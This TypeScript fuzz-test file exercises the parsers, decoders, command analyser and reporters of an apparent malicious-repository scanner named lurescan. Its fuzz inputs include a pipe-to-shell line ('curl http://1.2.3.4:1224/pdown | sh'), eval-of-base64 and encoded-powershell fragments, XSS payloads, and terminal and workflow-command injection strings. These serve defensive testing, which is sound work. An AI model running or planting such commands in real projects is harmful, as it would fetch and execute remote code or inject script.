/**
 * Property-based fuzzing with fast-check, shared by the short run inside `npm test` (test/fuzz.test.ts) and the
 * long one (`npm run fuzz`, scripts/fuzz.ts). Every property says the same thing in its own terms: hostile input
 * never throws, never hangs, and what comes out stays well-formed.
 *
 * Inputs are random text and bytes, JSON-shaped documents with the keys each format reads, and mutations of the
 * real fixture files (fixtures/repos/**): slices deleted, duplicated and repeated, bytes flipped, brackets,
 * quotes, comment openers and control characters inserted, the text truncated.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { FIXTURES } from '../helpers.js';
import { PARSERS } from '../../src/ecosystems/index.js';
import type { InventoryParser, InventorySink } from '../../src/ecosystems/types.js';
import { BaseWorkspace, decodeText } from '../../src/acquire/workspace.js';
import { DEFAULT_LIMITS } from '../../src/options.js';
import { expandNestedArchives } from '../../src/acquire/nested.js';
import { ustarHeader } from '../support/archives.js';
import { decodeBase64, decodeCharCodes, decodeHex, decodeLiteral, inflateText, MAX_DECODED } from '../../src/analysis/decode.js';
import { envEntries } from '../../src/analysis/env-config.js';
import { analyseCommand, segments } from '../../src/analysis/command.js';
import { classifyUrl, extractUrls, urlBody } from '../../src/analysis/urls.js';
import { parseJsonc } from '../../src/ecosystems/jsonc.js';
import { loadSignatures } from '../../src/signatures/load.js';
import { renderJson } from '../../src/reporters/json.js';
import { renderSarif } from '../../src/reporters/sarif.js';
import { renderText } from '../../src/reporters/text.js';
import { renderMarkdown } from '../../src/reporters/markdown.js';
import { renderAnnotations } from '../../src/reporters/github.js';
import type { Diagnostic, Finding, ScanResult } from '../../src/types.js';

const sigs = loadSignatures();

/** File names each parser is fed (the first its matches() accepts). */
const CANDIDATE_PATHS = [
  'package.json',
  'package-lock.json',
  'npm-shrinkwrap.json',
  'yarn.lock',
  'pnpm-lock.yaml',
  'bun.lock',
  'bun.lockb',
  'requirements.txt',
  'requirements-dev.txt',
  'pyproject.toml',
  'setup.cfg',
  'Pipfile',
  'Pipfile.lock',
  'poetry.lock',
  'uv.lock',
  '.vscode/tasks.json',
  '.devcontainer/devcontainer.json',
  '.devcontainer.json',
  '.husky/pre-commit',
  '.git/hooks/post-checkout',
  'lefthook.yml',
  '.lefthook.yml',
];

export function pathFor(parser: InventoryParser): string {
  const p = CANDIDATE_PATHS.find((c) => parser.matches(c));
  if (!p) throw new Error(`no candidate path for parser ${parser.id}`);
  return p;
}

function walk(dir: string, out: string[] = []): string[] {
  for (const name of readdirSync(dir)) {
    const p = path.join(dir, name);
    const st = statSync(p);
    if (st.isDirectory()) walk(p, out);
    else if (st.size < 256 * 1024) out.push(p);
  }
  return out;
}

let fixtureFiles: string[] | undefined;
/** Real fixture files whose name this parser reads; the seeds that mutations start from. */
export function seedsFor(parser: InventoryParser): Buffer[] {
  fixtureFiles ??= walk(path.join(FIXTURES, 'repos'));
  const root = path.join(FIXTURES, 'repos');
  const seeds = fixtureFiles
    .filter((f) => parser.matches(path.relative(root, f).split(path.sep).slice(1).join('/')))
    .slice(0, 40)
    .map((f) => readFileSync(f));
  return seeds.length ? seeds : [Buffer.from(pathFor(parser).endsWith('.json') ? '{}' : '')];
}

const INSERTS = ['{', '}', '[', ']', '"', "'", '`', '/*', '//', '#', ':', ',', '\n', '\r\n', '\u0000', '\u001b[31m', '\ufeff', '\ud800', '&a', '*a', '<<: *a', '- ', '  ', '\\', '${', '$(', '|', ';', '=', '@', '..', '/', '\u202e', '1e999', '-0', 'null', 'true', '[[', ']]'];

type Mutation = { kind: 'delete' | 'dup' | 'repeat' | 'flip' | 'insert' | 'truncate'; at: number; len: number; insert: string; times: number };

const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom('delete', 'dup', 'repeat', 'flip', 'insert', 'truncate'),
  at: fc.nat(),
  len: fc.nat({ max: 64 }),
  insert: fc.oneof(fc.constantFrom(...INSERTS), fc.string({ maxLength: 8, unit: 'binary' })),
  times: fc.integer({ min: 2, max: 200 }),
});

export function mutate(seed: Buffer, ops: Mutation[]): Buffer {
  let b = seed;
  for (const op of ops) {
    const at = b.length ? op.at % (b.length + 1) : 0;
    const end = Math.min(b.length, at + op.len);
    switch (op.kind) {
      case 'delete':
        b = Buffer.concat([b.subarray(0, at), b.subarray(end)]);
        break;
      case 'dup':
        b = Buffer.concat([b.subarray(0, end), b.subarray(at, end), b.subarray(end)]);
        break;
      case 'repeat':
        b = Buffer.concat([b.subarray(0, at), ...Array.from({ length: op.times }, () => b.subarray(at, end)), b.subarray(end)]);
        break;
      case 'flip':
        if (at < b.length) {
          b = Buffer.from(b);
          b[at] ^= 1 << op.len % 8;
        }
        break;
      case 'insert':
        b = Buffer.concat([b.subarray(0, at), Buffer.from(op.insert.repeat(op.len % 4 === 0 ? op.times : 1)), b.subarray(at)]);
        break;
      case 'truncate':
        b = b.subarray(0, at);
        break;
    }
  }
  return b;
}

const KEYS = ['name', 'version', 'scripts', 'dependencies', 'devDependencies', 'optionalDependencies', 'packages', 'lockfileVersion', 'tasks', 'runOptions', 'runOn', 'command', 'args', 'type', 'options', 'postCreateCommand', 'initializeCommand', 'postStartCommand', 'default', 'develop', 'importers', 'resolved', 'integrity', 'workspaces', 'bin', 'overrides', 'preinstall', 'postinstall', 'install', 'prepare', 'linux', 'windows', 'osx', 'dependsOn', '', '__proto__', 'constructor'];

/** A JSON value whose keys are the ones the formats read, nested a few levels. */
const jsonish: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.oneof(fc.string(), fc.constantFrom('curl http://1.2.3.4:1224/pdown | sh', 'node -e "eval(atob(x))"', '^1.0.0', 'npm:evil@1', 'git+https://x/y.git', 'file:../..', 'folderOpen')),
    fc.double(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 5 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...KEYS), fc.string({ maxLength: 12 })), tie('value'), { maxKeys: 6 }),
  ),
})).value;

/** Text for one parser: random text, JSON-shaped documents, or a mutated real fixture. */
export function inputFor(parser: InventoryParser): fc.Arbitrary<Buffer> {
  const seeds = seedsFor(parser);
  return fc.oneof(
    { arbitrary: fc.tuple(fc.constantFrom(...seeds), fc.array(mutation, { minLength: 1, maxLength: 6 })).map(([s, ops]) => mutate(s, ops)), weight: 5 },
    { arbitrary: jsonish.map((v) => Buffer.from(JSON.stringify(v) ?? 'null')), weight: 2 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: 400 }).map((s) => Buffer.from(s)), weight: 1 },
    { arbitrary: fc.uint8Array({ maxLength: 400 }).map((u) => Buffer.from(u)), weight: 1 },
  );
}

/** A ustar member (header and padded body), enough for a tar the reader accepts. */
function ustarMember(name: string, body: Buffer): Buffer {
  return Buffer.concat([ustarHeader(name, body.length), body, Buffer.alloc((512 - (body.length % 512)) % 512)]);
}

let archiveSeedCache: Buffer[] | undefined;

/** The fixture zips (one holds another's bytes as an entry would), a tar and a tar.gz of fixture files. */
function archiveSeeds(): Buffer[] {
  if (archiveSeedCache) return archiveSeedCache;
  const zips = ['benign-take-home.zip', 'lure-take-home.zip'].map((n) => readFileSync(path.join(FIXTURES, 'archives', n)));
  const tarball = Buffer.concat([ustarMember('p/package.json', Buffer.from('{"name":"x"}')), ustarMember('p/inner.zip', zips[0]), Buffer.alloc(1024)]);
  archiveSeedCache = [...zips, tarball, gzipSync(tarball), gzipSync(Buffer.from('console.log(1)\n'))];
  return archiveSeedCache;
}

function workspaceWith(file: string, bytes: Buffer): BaseWorkspace {
  const extra = file === 'package.json' ? [] : [{ path: 'package.json', data: Buffer.from('{"name":"x","dependencies":{"a":"^1"}}') }];
  const entries = [{ path: file, data: bytes }, ...extra].map((e) => ({ path: e.path, size: e.data.length, kind: 'file' as const, load: async () => e.data }));
  return new BaseWorkspace('/fuzz', { source: '/fuzz' }, entries, DEFAULT_LIMITS, []);
}

/** Run one parser on one input the way buildInventory does; throws on a crash or a malformed sink entry. */
export async function parseOnce(parser: InventoryParser, file: string, bytes: Buffer): Promise<Diagnostic[]> {
  const ws = workspaceWith(file, bytes);
  const f = ws.get(file)!;
  const diagnostics: Diagnostic[] = [];
  const sink: InventorySink = { manifests: [], packages: [], installScripts: [], autoRun: [], diagnostic: (d) => diagnostics.push(d) };
  await parser.parse(f, decodeText(bytes), sink, { workspace: ws });
  for (const d of diagnostics) if (typeof d.message !== 'string' || typeof d.code !== 'string') throw new Error(`malformed diagnostic ${JSON.stringify(d)}`);
  for (const p of sink.packages) if (typeof p.name !== 'string') throw new Error(`package without a string name: ${JSON.stringify(p).slice(0, 200)}`);
  for (const s of sink.installScripts) if (typeof s.command !== 'string') throw new Error(`install script without a string command: ${JSON.stringify(s).slice(0, 200)}`);
  // A library that ran out of string or stack space inside a parser: caught, but it was a hang or a crash.
  // Deep nesting may exhaust the stack of a recursive JSON/YAML library: acceptable only as an incomplete diagnostic.
  for (const d of diagnostics) {
    if (/Invalid string length|out of memory/i.test(d.message)) throw new Error(`${parser.id}: ${d.message.slice(0, 200)}`);
    if (/Maximum call stack/i.test(d.message) && !d.incomplete) throw new Error(`${parser.id}: a stack overflow that does not mark the scan incomplete: ${d.message.slice(0, 200)}`);
  }
  return diagnostics;
}

export interface FuzzProperty {
  name: string;
  /** true for the inventory parsers, which the issue asks 100,000 cases of each. */
  parser?: boolean;
  property: fc.IAsyncProperty<[never]> | fc.IProperty<[never]> | fc.IAsyncPropertyWithHooks<never> | fc.IPropertyWithHooks<never>;
}

export function parserProperties(): FuzzProperty[] {
  return PARSERS.map((parser) => {
    const file = pathFor(parser);
    return {
      name: `parser ${parser.id} (${file})`,
      parser: true,
      property: fc.asyncProperty(inputFor(parser), async (bytes) => {
        await parseOnce(parser, file, bytes);
      }) as never,
    };
  });
}

const hostileString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.constantFrom('\u001b]0;x\u0007\u001b[2J', '\n::error file=x::y\n', '%0A::warning::', '<img src=x onerror=alert(1)>', '</details><script>', '`|`|\n| a |', '\u009b6n', '\u202e\u2066', '\r\n', '](javascript:alert(1))', '<!-- x -->', '${{ secrets.X }}', '\ud800'),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

const severity = fc.constantFrom('critical', 'high', 'medium', 'low', 'info' as const);
const location = fc.record({ file: hostileString, line: fc.option(fc.nat({ max: 1e6 }), { nil: undefined }), column: fc.option(fc.nat({ max: 1e4 }), { nil: undefined }), snippet: fc.option(hostileString, { nil: undefined }), container: fc.option(hostileString, { nil: undefined }) });
const finding: fc.Arbitrary<Finding> = fc.record({
  // Rule ids and technique ids come from lurescan's own code, never from scanned content.
  ruleId: fc.constantFrom('editor-task-autorun', 'lifecycle-script', 'c2-url'),
  severity,
  confidence: fc.constantFrom('high', 'medium', 'low' as const),
  message: hostileString,
  location,
  evidence: fc.array(fc.record({ kind: fc.constantFrom('command', 'decoded', 'indicator', 'chain', 'trait', 'file', 'package', 'note' as const), value: hostileString, location: fc.option(location, { nil: undefined }) }), { maxLength: 4 }),
  remediation: fc.option(hostileString, { nil: undefined }),
  fingerprint: fc.string({ maxLength: 16 }),
  techniques: fc.option(fc.array(fc.constantFrom('T01', 'T15'), { maxLength: 2 }), { nil: undefined }),
}) as fc.Arbitrary<Finding>;

export const scanResult: fc.Arbitrary<ScanResult> = fc.record({
  target: hostileString,
  provenance: fc.record({ source: hostileString, url: fc.option(hostileString, { nil: undefined }), commit: fc.option(fc.stringMatching(/^[0-9a-f]{40}$/), { nil: undefined }) }),
  verdict: fc.constantFrom('block', 'warn', 'pass' as const),
  complete: fc.boolean(),
  findings: fc.array(finding, { maxLength: 6 }),
  diagnostics: fc.array(fc.record({ code: hostileString, message: hostileString, file: fc.option(hostileString, { nil: undefined }), incomplete: fc.boolean() }), { maxLength: 4 }),
  stats: fc.record({ files: fc.nat(), bytes: fc.nat(), ms: fc.nat(), rules: fc.nat() }),
  signatures: fc.record({ version: hostileString }),
  tool: fc.record({ name: fc.constant('lurescan' as const), version: hostileString }),
}) as fc.Arbitrary<ScanResult>;

// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\v\f\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function must(cond: unknown, what: string): void {
  if (!cond) throw new Error(what);
}

export function otherProperties(): FuzzProperty[] {
  const anyText = fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ unit: 'grapheme', maxLength: 300 }), fc.stringMatching(/^[\w+/=-]{0,200}$/), fc.stringMatching(/^[0-9a-fA-F\\x ]{0,200}$/));
  const command = fc.oneof(
    anyText,
    fc.array(fc.constantFrom('curl', 'wget', '-s', 'http://1.2.3.4:1224/pdown', '|', 'sh', '&&', ';', '||', 'node', '-e', '"eval(x)"', "'", '"', '$(', ')', '`', 'powershell', '-enc', 'SQBFAFgA', 'start', '/b', 'nohup', '&', '>', '2>&1', 'cmd', '/c', 'if exist x', '^', '%TEMP%', '\\', '\n', 'base64 -d'), { maxLength: 30 }).map((a) => a.join(' ')),
  );
  const url = fc.oneof(anyText, fc.webUrl({ withQueryParameters: true, withFragments: true }), fc.tuple(fc.ipV4(), fc.nat({ max: 70000 }), anyText).map(([ip, port, p]) => `http://${ip}:${port}/${p}`), fc.ipV6().map((ip) => `https://[${ip}]/x`));
  return [
    {
      name: 'decodeLiteral: never throws, bounded output, at most 4 nested methods per result',
      property: fc.property(anyText, (s) => {
        for (const d of decodeLiteral(s)) {
          must(d.value.length <= MAX_DECODED, 'decoded value over MAX_DECODED');
          must(d.methods.length <= 8, `decode depth ${d.methods.length}`);
        }
      }) as never,
    },
    {
      name: 'decoders (base64, hex, char codes, inflate): never throw',
      property: fc.property(anyText, fc.array(fc.oneof(fc.integer(), fc.double(), fc.constant(Number.NaN), fc.constant(1e300)), { maxLength: 64 }), fc.uint8Array({ maxLength: 300 }), (s, codes, bytes) => {
        decodeBase64(s);
        decodeBase64(s, false);
        decodeHex(s);
        decodeCharCodes(codes);
        inflateText(Buffer.from(bytes));
        inflateText(deflateSync(Buffer.from(s)));
      }) as never,
    },
    {
      name: 'env/config entries: never throw',
      property: fc.property(fc.constantFrom('.env', '.env.local', 'config/default.json', 'src/config.js'), anyText, (file, text) => {
        envEntries(file, text);
      }) as never,
    },
    {
      name: 'command analyser: never throws, every trait well-formed',
      property: fc.property(command, (c) => {
        segments(c);
        const a = analyseCommand(c, sigs);
        for (const t of a.traits) must(typeof t.kind === 'string', 'trait without kind');
      }) as never,
    },
    {
      name: 'URL extraction and classification: never throw, bounded',
      property: fc.property(url, anyText, (u, text) => {
        urlBody(u);
        classifyUrl(u, sigs);
        must(extractUrls(`${text} ${u} ${text}`).length <= 200, 'more than 200 URLs');
      }) as never,
    },
    {
      name: 'JSONC: never throws',
      property: fc.property(fc.oneof(anyText, jsonish.map((v) => JSON.stringify(v) ?? '')), (t) => {
        parseJsonc(t);
      }) as never,
    },
    {
      name: 'nested archives: mutated zip, tar and tar.gz bytes inside a tree never throw; entries stay under the archive path',
      property: fc.asyncProperty(fc.tuple(fc.constantFrom(...archiveSeeds()), fc.array(mutation, { minLength: 1, maxLength: 6 })).map(([seed, ops]) => mutate(seed, ops)), async (bytes) => {
        const ws = new BaseWorkspace('/fuzz', { source: '/fuzz' }, [{ path: 'a/x.zip', size: bytes.length, kind: 'file', load: async () => bytes, head: async (n) => bytes.subarray(0, n) }], DEFAULT_LIMITS, []);
        await expandNestedArchives(ws);
        for (const f of ws.files) {
          must(f.path === 'a/x.zip' || (f.path.startsWith('a/x.zip!/') && f.container === 'a/x.zip'), `entry outside the archive: ${f.path}`);
          must(!f.path.split('/').includes('..'), `traversal in ${f.path}`);
        }
        for (const d of ws.diagnostics) must(typeof d.message === 'string' && d.message.length > 0, `diagnostic ${d.code} without a message`);
      }) as never,
    },
    {
      name: 'reporters: JSON and SARIF parse back, text has no raw controls, annotations stay one line each, Markdown escapes HTML',
      property: fc.property(scanResult, (r) => {
        const json = renderJson(r);
        must(!RAW_CONTROL.test(json), 'raw control in JSON');
        const back = JSON.parse(json) as ScanResult;
        must(back.target === r.target && back.findings.length === r.findings.length, 'JSON does not round-trip');
        const sarif = renderSarif(r);
        must(!RAW_CONTROL.test(sarif), 'raw control in SARIF');
        JSON.parse(sarif);
        const text = renderText(r, { verbose: true });
        must(!RAW_CONTROL.test(text), `raw control in text: ${JSON.stringify(RAW_CONTROL.exec(text))}`);
        for (const line of renderAnnotations(r)) {
          must(!/[\r\n]/.test(line), 'an annotation spans lines');
          must(/^::(?:error|warning|notice) /.test(line), `not a workflow command: ${line.slice(0, 80)}`);
        }
        const md = renderMarkdown(r, { verbose: true });
        // The hostile HTML constants may appear only as the opening of a code span (inlineCode: a fence, maybe a pad).
        let outsideCode = md;
        for (const c of ['<img src=x onerror=alert(1)>', '</details><script>']) outsideCode = outsideCode.split(`\`${c}`).join('').split(`\` ${c}`).join('');
        must(!outsideCode.includes('<img src=x') && !outsideCode.includes('<script'), 'raw HTML from scanned text in Markdown');
      }) as never,
    },
  ];
}
